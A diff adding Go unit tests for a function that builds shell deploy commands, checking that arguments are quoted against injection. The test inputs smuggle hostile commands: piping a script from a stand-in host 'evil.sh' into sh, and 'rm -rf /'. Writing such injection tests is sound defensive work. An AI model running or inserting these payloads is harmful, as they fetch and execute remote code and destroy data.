@@ -0,0 +1,40 @@
+package main
+
+import (
+    "strings"
+    "testing"
+)
+
+func TestBuildDeployCommandStringQuotesArgs(t *testing.T) {
+    command := []string{"deploy", "x; curl evil.sh|sh #", "img; rm -rf /"}
+    got := buildDeployCommandString(command)
+
+    if !strings.Contains(got, shQuote("img; rm -rf /")) {
+        t.Errorf("app_url not quoted: %s", got)
+    }
+    if !strings.Contains(got, shQuote("x; curl evil.sh|sh #-instance")) {
+        t.Errorf("app_type-derived name not quoted: %s", got)
+    }
+    if strings.Contains(got, "docker pull img; rm -rf /") {
+        t.Errorf("app_url was interpolated unquoted: %s", got)
+    }
+}
+
+func TestBuildDeployCommandStringFallback(t *testing.T) {
+    if got := buildDeployCommandString([]string{"ls", "-la"}); got != "echo 'command conversion failed'" {
+        t.Errorf("non-deploy command got %q", got)
+    }
+    if got := buildDeployCommandString(nil); got != "" {
+        t.Errorf("empty command got %q", got)
+    }
+}
+
+func TestDeployCommandArgs(t *testing.T) {
+    if _, _, ok := deployCommandArgs([]string{"deploy", "zed"}); ok {
+        t.Error("expected short command to not match deploy shape")
+    }
+    appType, appURL, ok := deployCommandArgs([]string{"deploy", "zed", "dummy-zed:latest"})
+    if !ok || appType != "zed" || appURL != "dummy-zed:latest" {
+        t.Errorf("deployCommandArgs = %q, %q, %v", appType, appURL, ok)
+    }
+}